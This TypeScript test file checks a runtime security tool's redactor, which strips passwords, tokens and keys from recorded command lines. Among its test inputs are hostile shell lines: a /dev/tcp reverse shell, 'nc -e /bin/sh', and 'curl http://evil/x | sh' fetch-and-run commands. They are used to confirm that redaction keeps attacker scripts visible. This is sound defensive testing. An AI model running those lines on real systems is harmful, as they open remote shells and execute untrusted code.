import assert from "node:assert/strict";
import fc from "fast-check";
import { createRedactor, isSecretName, REDACTED } from "../../microenforcer/records/redact.ts";
import { processRecord } from "../../microenforcer/records/process-records.ts";
import { parsePolicies } from "../../policies/load.ts";
import type { ProcessInfo } from "../../microenforcer/tracker/process-tracker.ts";

const redact = (...args: string[]) => createRedactor().redact(args).args;

describe("records/redact", () => {
  it("keeps the name and replaces the value of secret options, in every argument form", () => {
    assert.deepEqual(redact("app", "--password=p1", "--api-key", "k1", "-token", "t1", "--db_pass", "d1"), ["app", `--password=${REDACTED}`, "--api-key", REDACTED, "-token", REDACTED, "--db_pass", REDACTED]);
    assert.deepEqual(redact("env", "PGPASSWORD=pg", "AWS_SECRET_ACCESS_KEY=ak", "DB_USER=u"), ["env", `PGPASSWORD=${REDACTED}`, `AWS_SECRET_ACCESS_KEY=${REDACTED}`, "DB_USER=u"]);
    assert.deepEqual(redact("java", "-Djavax.net.ssl.keyStorePassword=ks", "-jar", "a.jar"), ["java", `-Djavax.net.ssl.keyStorePassword=${REDACTED}`, "-jar", "a.jar"]);
    assert.deepEqual(redact("psql", "host=db password=pw user=x"), ["psql", `host=db password=${REDACTED} user=x`]);
    assert.deepEqual(redact("kubectl", "create", "secret", "generic", "s", "--from-literal=db-pass=x", "--from-literal=user=bob"), [
      "kubectl", "create", "secret", "generic", "s", `--from-literal=db-pass=${REDACTED}`, "--from-literal=user=bob",
    ]);
  });

  it("leaves references, settings and look-alikes alone", () => {
    const args = ["app", "--token-file", "/run/token", "--password-stdin", "registry", "--max-tokens", "100", "--bypass", "x", "--secret-name", "db", "--passthrough", "y"];
    assert.deepEqual(redact(...args), args);
    assert.deepEqual(redact("docker", "run", "-p", "8080:80", "nginx"), ["docker", "run", "-p", "8080:80", "nginx"], "-p is a port here");
    assert.deepEqual(redact("mysql", "-P3306", "-u", "root", "-p", "db"), ["mysql", "-P3306", "-u", "root", "-p", "db"], "a lone -p prompts");
    assert.equal(createRedactor().redact(["ls", "-la"]).redacted, false);
  });

  it("redacts passwords in URLs, query tokens, headers and bearer tokens", () => {
    assert.deepEqual(redact("curl", "-H", "Authorization: Bearer abc.def", "-H", "X-Api-Key: k", "https://bob:pw@h.example/x?token=t0k&y=1"), [
      "curl", "-H", `Authorization: Bearer ${REDACTED}`, "-H", `X-Api-Key: ${REDACTED}`, `https://bob:${REDACTED}@h.example/x?token=${REDACTED}&y=1`,
    ]);
    assert.deepEqual(redact("wget", "--header=Authorization: Basic Zm9vOmJhcg=="), ["wget", `--header=Authorization: Basic ${REDACTED}`]);
    assert.deepEqual(redact("git", "clone", "https://x-access-token:tok@github.com/o/r"), ["git", "clone", `https://x-access-token:${REDACTED}@github.com/o/r`]);
  });

  it("redacts token formats that identify themselves, wherever they are", () => {
    for (const token of [
      "AKIAIOSFODNN7EXAMPLE",
      "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
      "glpat-abcdefghij0123456789",
      "xoxb-1234567890-abcdefghij",
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
      "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
    ]) {
      assert.deepEqual(redact("tool", `x ${token} y`), ["tool", `x ${REDACTED} y`], token);
    }
  });

  it("knows the short password options of the programs that have them", () => {
    assert.deepEqual(redact("mysql", "-uroot", "-phunter2", "db"), ["mysql", "-uroot", `-p${REDACTED}`, "db"]);
    assert.deepEqual(redact("/usr/bin/sshpass", "-p", "pw", "ssh", "h"), ["/usr/bin/sshpass", "-p", REDACTED, "ssh", "h"]);
    assert.deepEqual(redact("redis-cli", "-a", "pw", "ping"), ["redis-cli", "-a", REDACTED, "ping"]);
    assert.deepEqual(redact("curl", "-u", "alice:pw", "-ubob:pw2", "-u", "carol", "u"), ["curl", "-u", `alice:${REDACTED}`, `-ubob:${REDACTED}`, "-u", "carol", "u"]);
    assert.deepEqual(redact("docker", "login", "-u", "me", "-p", "pw", "reg"), ["docker", "login", "-u", "me", "-p", REDACTED, "reg"]);
    assert.deepEqual(redact("openssl", "enc", "-pass", "pass:pw", "-passin", "env:VAR", "-k", "pw2"), ["openssl", "enc", "-pass", `pass:${REDACTED}`, "-passin", "env:VAR", "-k", REDACTED]);
    assert.deepEqual(redact("htpasswd", "-bc", "f", "u", "pw"), ["htpasswd", "-bc", "f", "u", REDACTED]);
    assert.deepEqual(redact("keytool", "-importcert", "-storepass", "pw", "-alias", "a"), ["keytool", "-importcert", "-storepass", REDACTED, "-alias", "a"]);
    assert.deepEqual(redact("aws", "configure", "set", "aws_secret_access_key", "pw"), ["aws", "configure", "set", "aws_secret_access_key", REDACTED]);
  });

  it("applies every rule per command inside sh -c scripts", () => {
    assert.deepEqual(redact("sh", "-c", "mysql -uroot -pabc db && curl -H 'Authorization: Basic Zm9v' https://h/ ; sudo sshpass -p pw ssh h"), [
      "sh", "-c", `mysql -uroot -p${REDACTED} db && curl -H 'Authorization: Basic ${REDACTED}' https://h/ ; sudo sshpass -p ${REDACTED} ssh h`,
    ]);
  });

  it("knows the credentials of cloud, vault, archive, SMB, LDAP and object-store tools", () => {
    assert.deepEqual(redact("az", "login", "--service-principal", "-u", "app-id", "-p", "sp-secret", "--tenant", "t"), ["az", "login", "--service-principal", "-u", "app-id", "-p", REDACTED, "--tenant", "t"]);
    assert.deepEqual(redact("az", "vm", "list", "-p", "x"), ["az", "vm", "list", "-p", "x"], "-p means a password only for az login");
    assert.deepEqual(redact("vault", "login", "hvs.CAESIJxyzabcdefghijklmnopqrstu"), ["vault", "login", REDACTED]);
    assert.deepEqual(redact("vault", "login", "s.legacyTokenWithoutPrefix1"), ["vault", "login", REDACTED], "a positional token of any format");
    assert.deepEqual(redact("vault", "login", "-method=userpass", "username=bob", "password=pw1"), ["vault", "login", "-method=userpass", "username=bob", `password=${REDACTED}`]);
    assert.deepEqual(redact("tool", "--config", "x hvs.CAESIJxyzabcdefghijklmnopqrstu y"), ["tool", "--config", `x ${REDACTED} y`], "Vault tokens identify themselves");
    assert.deepEqual(redact("zip", "-P", "zpw", "-r", "a.zip", "dir"), ["zip", "-P", REDACTED, "-r", "a.zip", "dir"]);
    assert.deepEqual(redact("unzip", "-P", "zpw", "a.zip"), ["unzip", "-P", REDACTED, "a.zip"]);
    assert.deepEqual(redact("7z", "a", "-pSevenPw", "a.7z", "dir"), ["7z", "a", `-p${REDACTED}`, "a.7z", "dir"]);
    assert.deepEqual(redact("7z", "x", "-p", "a.7z"), ["7z", "x", "-p", "a.7z"], "a lone -p prompts");
    assert.deepEqual(redact("smbclient", "//srv/share", "-U", "DOM\\bob%smb pw"), ["smbclient", "//srv/share", "-U", `DOM\\bob%${REDACTED}`]);
    assert.deepEqual(redact("smbclient", "//srv/share", "--user=bob%pw", "-c", "ls"), ["smbclient", "//srv/share", `--user=bob%${REDACTED}`, "-c", "ls"]);
    assert.deepEqual(redact("smbclient", "//srv/share", "positional-pw", "-U", "bob"), ["smbclient", "//srv/share", REDACTED, "-U", "bob"]);
    assert.deepEqual(redact("ldapsearch", "-x", "-D", "cn=admin,dc=x", "-w", "ldappw", "-b", "dc=x"), ["ldapsearch", "-x", "-D", "cn=admin,dc=x", "-w", REDACTED, "-b", "dc=x"]);
    assert.deepEqual(redact("ldapmodify", "-D", "cn=a", "-wldappw"), ["ldapmodify", "-D", "cn=a", `-w${REDACTED}`]);
    assert.deepEqual(redact("mc", "alias", "set", "minio", "http://minio:9000", "ACCESSKEY", "minio secret", "--api", "S3v4"), ["mc", "alias", "set", "minio", "http://minio:9000", "ACCESSKEY", REDACTED, "--api", "S3v4"]);
    assert.deepEqual(redact("mc", "alias", "set", "--api", "S3v4", "minio", "http://minio:9000", "AK", "SK"), ["mc", "alias", "set", "--api", "S3v4", "minio", "http://minio:9000", "AK", REDACTED]);
    assert.deepEqual(redact("mc", "config", "host", "add", "minio", "http://minio:9000", "AK", "SK"), ["mc", "config", "host", "add", "minio", "http://minio:9000", "AK", REDACTED]);
    assert.deepEqual(redact("curl", "--user=alice:pw", "u"), ["curl", `--user=alice:${REDACTED}`, "u"]);
  });

  it("redacts secret headers of every vendor, URL signatures and webhook URLs", () => {
    assert.deepEqual(redact("curl", "-H", "X-Vault-Token: s.abcdef", "-H", "Ocp-Apim-Subscription-Key: k1", "-H", "X-Functions-Key:k2", "-H", "Content-Type: application/json", "https://h"), [
      "curl", "-H", `X-Vault-Token: ${REDACTED}`, "-H", `Ocp-Apim-Subscription-Key: ${REDACTED}`, "-H", `X-Functions-Key:${REDACTED}`, "-H", "Content-Type: application/json", "https://h",
    ]);
    const presigned = "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20250101T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=0123abcd";
    assert.deepEqual(redact("curl", presigned), ["curl", presigned.replace("0123abcd", REDACTED)]);
    assert.deepEqual(redact("wget", "https://s.storage.googleapis.com/o?X-Goog-Date=1&X-Goog-Signature=ff00&x=1"), ["wget", `https://s.storage.googleapis.com/o?X-Goog-Date=1&X-Goog-Signature=${REDACTED}&x=1`]);
    assert.deepEqual(redact("azcopy", "copy", "https://a.blob.core.windows.net/c/b?sv=2022-11-02&se=2025-01-01&sp=r&sig=AbCd%2BEf%3D", "."), ["azcopy", "copy", `https://a.blob.core.windows.net/c/b?sv=2022-11-02&se=2025-01-01&sp=r&sig=${REDACTED}`, "."]);
    assert.deepEqual(redact("cosign", "verify", "--signature", "sig.b64", "img"), ["cosign", "verify", "--signature", "sig.b64", "img"], "a signature outside a URL is not a credential");
    assert.deepEqual(redact("curl", "-d", "{}", "https://hooks.slack.com/services/T0000AAAA/B0000BBBB/XXXXXXXXXXXXXXXXXXXXXXXX"), ["curl", "-d", "{}", `https://hooks.slack.com/services/T0000AAAA/B0000BBBB/${REDACTED}`]);
    assert.deepEqual(redact("az", "storage", "blob", "list", "--connection-string", "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=abc+def==;EndpointSuffix=core.windows.net"), [
      "az", "storage", "blob", "list", "--connection-string", `DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=${REDACTED};EndpointSuffix=core.windows.net`,
    ]);
  });

  it("redacts what is piped or written into a command that reads a secret from stdin", () => {
    assert.deepEqual(redact("sh", "-c", "echo 's3cr3t pw' | docker login -u me --password-stdin registry.example && docker pull x"), [
      "sh", "-c", `echo '${REDACTED}' | docker login -u me --password-stdin registry.example && docker pull x`,
    ]);
    assert.deepEqual(redact("sh", "-c", "printf '%s' hunter2 | podman login --password-stdin r"), ["sh", "-c", `printf '%s' ${REDACTED} | podman login --password-stdin r`]);
    assert.deepEqual(redact("sh", "-c", 'printf "%s" "$REG_PW" | docker login --password-stdin r'), ["sh", "-c", 'printf "%s" "$REG_PW" | docker login --password-stdin r'], "a variable is not the secret");
    assert.deepEqual(redact("sh", "-c", "docker login --password-stdin r <<< hunter2; ls"), ["sh", "-c", `docker login --password-stdin r <<< ${REDACTED}; ls`]);
    assert.deepEqual(redact("sh", "-c", "cat <<EOF | docker login --password-stdin r\nhunter2\nEOF\nls /"), ["sh", "-c", `cat <<EOF | docker login --password-stdin r\n${REDACTED}\nEOF\nls /`]);
    assert.deepEqual(redact("sh", "-c", "echo hello | grep h"), ["sh", "-c", "echo hello | grep h"]);
  });

  it("redacts quoted secrets with spaces whole, in arguments and in scripts", () => {
    assert.deepEqual(redact("app", "--password", "a b c", "--password=d e"), ["app", "--password", REDACTED, `--password=${REDACTED}`]);
    assert.deepEqual(redact("sh", "-c", "mysql --password='a b c' -u root db"), ["sh", "-c", `mysql --password='${REDACTED}' -u root db`]);
    assert.deepEqual(redact("sh", "-c", 'PGPASSWORD="a b c" psql -h db; app --api-key "k 1" x'), ["sh", "-c", `PGPASSWORD="${REDACTED}" psql -h db; app --api-key "${REDACTED}" x`]);
    assert.deepEqual(redact("psql", "host=db password='a b' user=x"), ["psql", `host=db password='${REDACTED}' user=x`]);
    assert.deepEqual(redact("sh", "-c", "app '--password=ab'cd next"), ["sh", "-c", `app '--password=${REDACTED}' next`], "a secret leaving its quotes keeps the script balanced");
  });

  it("never lets a fake secret swallow the script behind it", () => {
    assert.deepEqual(redact("bash", "-c", "X_TOKEN=1; exec 3<>/dev/tcp/10.0.0.1/4444; cat <&3 | sh >&3"), ["bash", "-c", `X_TOKEN=${REDACTED}; exec 3<>/dev/tcp/10.0.0.1/4444; cat <&3 | sh >&3`]);
    assert.deepEqual(redact("sh", "-c", "app --token=1;curl -s http://evil/x | sh"), ["sh", "-c", `app --token=${REDACTED};curl -s http://evil/x | sh`]);
    assert.deepEqual(redact("sh", "-c", "MYSQL_PWD=x mysql -u root -pabc -e 'select 1'"), ["sh", "-c", `MYSQL_PWD=${REDACTED} mysql -u root -p${REDACTED} -e 'select 1'`]);
    assert.deepEqual(redact("sh", "-c", "TOKEN=$(curl -s http://evil/x | sh) ls"), ["sh", "-c", "TOKEN=$(curl -s http://evil/x | sh) ls"], "a substitution is code, not a secret");
    assert.deepEqual(redact("sh", "-c", "'X_TOKEN=a'$(curl evil)`wget evil`"), ["sh", "-c", `'X_TOKEN=${REDACTED}'$(curl evil)\`wget evil\``]);
    assert.deepEqual(redact("sh", "-c", "v=$(mysql -pabc -e 'select 1')"), ["sh", "-c", `v=$(mysql -p${REDACTED} -e 'select 1')`], "what a substitution runs is redacted");
    assert.deepEqual(redact("python3", "-c", "API_TOKEN=1;import os;os.system('id')"), ["python3", "-c", `API_TOKEN=${REDACTED};import os;os.system('id')`]);
    assert.deepEqual(redact("env", "-S", "X_TOKEN=1 curl http://evil"), ["env", "-S", `X_TOKEN=${REDACTED} curl http://evil`]);
    assert.deepEqual(redact("su", "-c", "DB_PASS=1 && nc -e /bin/sh h 1", "app"), ["su", "-c", `DB_PASS=${REDACTED} && nc -e /bin/sh h 1`, "app"]);
    assert.deepEqual(redact("watch", "X_TOKEN=1; curl evil"), ["watch", `X_TOKEN=${REDACTED}; curl evil`], "a value in one argument ends at a shell separator");
    assert.deepEqual(redact("kubectl", "exec", "p", "--", "sh", "-c", "A_SECRET=1\nid"), ["kubectl", "exec", "p", "--", "sh", "-c", `A_SECRET=${REDACTED}\nid`]);
  });

  it("finds the program behind wrappers and assignments", () => {
    assert.deepEqual(redact("sudo", "-u", "root", "env", "A=b", "mysql", "-pabc"), ["sudo", "-u", "root", "env", "A=b", "mysql", `-p${REDACTED}`]);
    assert.deepEqual(redact("kubectl", "exec", "p", "--", "mysql", "-pabc"), ["kubectl", "exec", "p", "--", "mysql", `-p${REDACTED}`]);
    assert.deepEqual(redact("sh", "-c", "timeout 5 sshpass -p pw ssh h; nice -n 5 redis-cli -a rpw ping"), ["sh", "-c", `timeout 5 sshpass -p ${REDACTED} ssh h; nice -n 5 redis-cli -a ${REDACTED} ping`]);
  });

  it("adds policy patterns: a `secret` group replaces only that part", () => {
    const redactor = createRedactor(["acct-(?<secret>\\d+)", "internal-[a-z]+"]);
    assert.deepEqual(redactor.redact(["tool", "ACCT-1234", "x internal-build y"]).args, ["tool", `ACCT-${REDACTED}`, `x ${REDACTED} y`]);
  });

  it("names: secret words and compounds, not references or look-alikes", () => {
    for (const name of ["password", "--db-password", "PGPASSWORD", "MYSQL_PWD", "api_key", "x-api-key", "apikey", "client-secret", "aws_secret_access_key", "--auth-token", "--pass", "creds"]) {
      assert.ok(isSecretName(name), name);
    }
    for (const name of ["--password-file", "token_ttl", "--access-key-id", "--bypass", "--passthrough", "--max-tokens", "--key", "compass", "user"]) {
      assert.ok(!isSecretName(name), name);
    }
  });

  it("properties: never throws, keeps the argument count, is idempotent, and a secret in a known form never survives", () => {
    const secret = fc.stringMatching(/^[A-Za-z0-9]{6,20}$/).map((s) => `Zq${s}`);
    const filler = fc.array(fc.string({ unit: "binary", maxLength: 30 }), { maxLength: 6 });
    const form = fc.constantFrom(
      (s: string) => [`--password=${s}`],
      (s: string) => ["--api-key", s],
      (s: string) => [`DB_PASSWORD=${s}`],
      (s: string) => [`https://u:${s}@host/`],
      (s: string) => ["-H", `Authorization: Bearer ${s}`],
      (s: string) => [`https://h/?access_token=${s}&a=b`],
    );
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 20 }), filler, form, secret, filler, (program, before, make, value, after) => {
        const args = [program, ...before, ...make(value), ...after];
        const { args: out, redacted } = createRedactor().redact(args);
        assert.equal(out.length, args.length);
        assert.ok(redacted);
        assert.ok(!out.join("\u0000").includes(value), JSON.stringify({ args, out }));
        assert.deepEqual(createRedactor().redact(out).args, out, "idempotent");
      }),
      { numRuns: 500 },
    );
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary", maxLength: 200 }), { maxLength: 10 }), (args) => {
        const out = createRedactor().redact(args).args;
        assert.equal(out.length, args.length);
      }),
      { numRuns: 500 },
    );
  });
});

describe("records/redact against an intruder hiding a script", () => {
  const word = fc.stringMatching(/^[a-z][a-z0-9/._]{1,9}$/);
  const secret = fc.stringMatching(/^[A-Za-z0-9]{4,12}$/).map((s) => `Zq${s}`);
  const quoted = (s: string, style: number) => [s, `'${s}'`, `"${s}"`, `"${s} x"`][style]!;
  /** One command: optional fake secrets in front and at the end, words the shell runs. */
  const command = fc.record({
    words: fc.array(word, { minLength: 1, maxLength: 4 }),
    prefix: fc.option(fc.tuple(secret, fc.integer({ min: 0, max: 3 }))),
    suffix: fc.option(fc.tuple(secret, fc.integer({ min: 0, max: 2 }))),
  });
  const separator = fc.constantFrom(";", " ; ", "&&", " || ", " | ", "\n", " & ", ";\n");

  it("keeps every word of every command, in order, and none of the secrets", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(command, separator), { minLength: 1, maxLength: 5 }), fc.boolean(), (commands, nested) => {
        const secrets: string[] = [];
        const script = commands
          .map(([{ words, prefix, suffix }, sep]) => {
            const parts = [...words];
            if (prefix !== null) {
              secrets.push(prefix[0]);
              parts.unshift(`X_TOKEN=${quoted(prefix[0], prefix[1])}`);
            }
            if (suffix !== null) {
              secrets.push(suffix[0]);
              parts.push(`--api-key=${quoted(suffix[0], suffix[1])}`);
            }
            return parts.join(" ") + sep;
          })
          .join("");
        const args = nested ? ["sh", "-c", `bash -c '${script.replaceAll("'", `'\\''`)}'`] : ["bash", "-c", script];
        const out = createRedactor().redact(args).args[2]!;
        let at = 0;
        for (const w of commands.flatMap(([c]) => c.words)) {
          const found = out.indexOf(w, at);
          assert.ok(found >= 0, JSON.stringify({ script, out, missing: w }));
          at = found + w.length;
        }
        for (const s of secrets) assert.ok(!out.includes(s), JSON.stringify({ script, out, secret: s }));
      }),
      { numRuns: 400 },
    );
  });

  it("never throws on any script, and redacting twice changes nothing more", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."ab =;&|()<>'\"\\$`{}#\n-_TOKEN:@/"), maxLength: 60 }), (script) => {
        const once = createRedactor().redact(["sh", "-c", script]).args;
        assert.equal(once.length, 3);
        assert.deepEqual(createRedactor().redact(once).args, once, JSON.stringify({ script, once }));
      }),
      { numRuns: 1000 },
    );
  });
});

describe("records/redact against a command line built to be expensive", () => {
  // A regex backtracking over a 128 KiB argument took 76 s before; each of these runs in
  // tens to a few hundred milliseconds. The bound leaves room for a busy machine.
  const cases: Array<[string, string[]]> = [
    ["one 128 KiB argument", ["app", "x".repeat(128 * 1024)]],
    ["an unterminated quote", ["sh", "-c", `'${"x".repeat(128 * 1024)}`]],
    ["30 000 nested substitutions", ["sh", "-c", "$(".repeat(30_000)]],
    ["32 000 commands", ["sh", "-c", "a=b&".repeat(32_000)]],
    ["14 000 secret keys", ["sh", "-c", "password=".repeat(14_000)]],
    ["100 000 shells", Array.from({ length: 100_000 }, () => ["sh", "-c"]).flat()],
    ["200 000 su", Array.from({ length: 200_000 }, () => "su")],
  ];
  for (const [name, args] of cases) {
    it(`${name}: within 3 s`, () => {
      const started = performance.now();
      const { args: out } = createRedactor().redact(args);
      const ms = performance.now() - started;
      assert.equal(out.length, args.length);
      assert.ok(ms < 3000, `${ms.toFixed(0)} ms`);
    });
  }
});

describe("records/process-records with redaction", () => {
  const process: ProcessInfo = {
    pid: 42,
    ppid: 1,
    startTicks: 100,
    comm: "mysql",
    args: ["mysql", "-uroot", "-phunter2", "--host=db"],
    euid: 0,
    uid: 0,
    origin: "child",
    container: { name: "app" },
    detection: "trigger",
    image: "exec",
  } as unknown as ProcessInfo;
  const clock = { bootMs: 0, ticksPerSecond: 100 };

  it("redacts the command line and the arguments alike, and marks the record", () => {
    const [policy] = parsePolicies("apiVersion: microenforcer.dev/v1alpha1\nkind: RuntimePolicy\nmetadata: {name: p}\nspec: {forensics: {redaction: {patterns: ['host=(?<secret>\\w+)']}}}\n", "p.yaml");
    const record = processRecord({ kind: "exec", process, observedAt: 1000, inPlace: false } as never, clock, policy!.spec.forensics);
    assert.equal(record?.attributes["process.command_line"], `mysql -uroot '-p${REDACTED}' '--host=${REDACTED}'`);
    assert.deepEqual(record?.attributes["process.command_args"], ["mysql", "-uroot", `-p${REDACTED}`, `--host=${REDACTED}`]);
    assert.equal(record?.attributes["microenforcer.redacted"], true);
    assert.deepEqual(process.args, ["mysql", "-uroot", "-phunter2", "--host=db"], "the process facts stay as read");
  });

  it("a policy with an invalid pattern is refused with its path", () => {
    assert.throws(
      () => parsePolicies("apiVersion: microenforcer.dev/v1alpha1\nkind: RuntimePolicy\nmetadata: {name: p}\nspec: {forensics: {redaction: {patterns: ['(unclosed']}}}\n", "p.yaml"),
      { message: `p.yaml: /spec/forensics/redaction/patterns/0: expected string to match 'regex' format, found "(unclosed"` },
    );
  });
});
